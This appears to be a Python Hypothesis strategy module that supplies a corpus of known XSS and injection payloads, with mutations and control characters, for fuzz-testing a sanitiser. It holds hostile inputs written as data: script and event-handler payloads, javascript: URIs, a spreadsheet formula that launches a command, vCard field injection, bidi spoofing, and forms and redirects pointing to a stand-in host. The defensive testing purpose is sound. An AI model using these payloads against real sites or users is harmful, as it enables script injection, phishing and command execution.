"""Hostile strings: known XSS and injection payloads, and Hypothesis mutations of them
(entities, mixed case, white space, nested quotes, Unicode controls)."""

from __future__ import annotations

import html

from hypothesis import strategies as st

CORPUS = (
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    '"><svg onload=alert(1)>',
    "'><iframe src=https://evil.example/></iframe>",
    "javascript:alert(1)",
    "jav&#x09;ascript:alert(1)",
    " JaVaScRiPt:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "vbscript:msgbox(1)",
    "[click](javascript:alert(1))",
    "<javascript:alert(1)>",
    "[x][r]\n\n[r]: javascript:alert(1)",
    "{: onclick=alert(1) }",
    "text {#id .md-button onmouseover=alert(1)}",
    '<a href="https://evil.example/" class="md-consent__overlay">Sign in</a>',
    "<style>body{display:none}</style>",
    '<p style="position:fixed;inset:0">x</p>',
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;img src=x onerror=alert(1)&#62;",
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    '";alert(1);//',
    "'-alert(1)-'",
    "{{ config }}{% raw %}",
    '=HYPERLINK("https://evil.example/","x")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "-2+3",
    "\tleading tab",
    "line\r\nEND:VCARD\r\nBEGIN:VCARD\r\nFN:evil",
    "a;b,c\\d",
    "http://evil.example\\@treaties.un.org/",
    "https://user:pass@evil.example/",
    "<base href=https://evil.example/>",
    '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    "<form action=https://evil.example/><input name=p></form>",
    "<!--<script>alert(1)//-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "\u202eexample.org@evil\u202c",
    "zero\u200bwidth\u2066isolate\u2069",
    'markdown="1" <div markdown="1" title=\'x" onclick=alert(1) \'>',
    "`<script>`",
    "${7*7}",
)

_CONTROLS = (
    "\u0000",
    "\u0008",
    "\u001b",
    "\u007f",
    "\u0085",
    "\u200b",
    "\u202e",
    "\u2066",
    "\ufeff",
)


def _entities(text: str) -> str:
    return "".join(f"&#x{ord(c):x};" if c in "<>:\"'" else c for c in text)


def _case(text: str) -> str:
    return "".join(c.upper() if i % 2 else c.lower() for i, c in enumerate(text))


def _space(text: str) -> str:
    return text.replace("<", "< ").replace("=", " =\n").replace(":", "\t:")


def _quotes(text: str) -> str:
    return f"\"'{text}'\"" + '"><"' + text.replace('"', "'")


MUTATIONS = (_entities, _case, _space, _quotes, html.escape, lambda t: t + t[::-1])


@st.composite
def hostile(draw: st.DrawFn) -> str:
    """A payload from the corpus, perhaps mutated, perhaps with a control character inside."""
    text = draw(st.sampled_from(CORPUS))
    for mutate in draw(st.lists(st.sampled_from(MUTATIONS), max_size=2)):
        text = mutate(text)
    if draw(st.booleans()):
        at = draw(st.integers(0, len(text)))
        text = text[:at] + draw(st.sampled_from(_CONTROLS)) + text[at:]
    return text
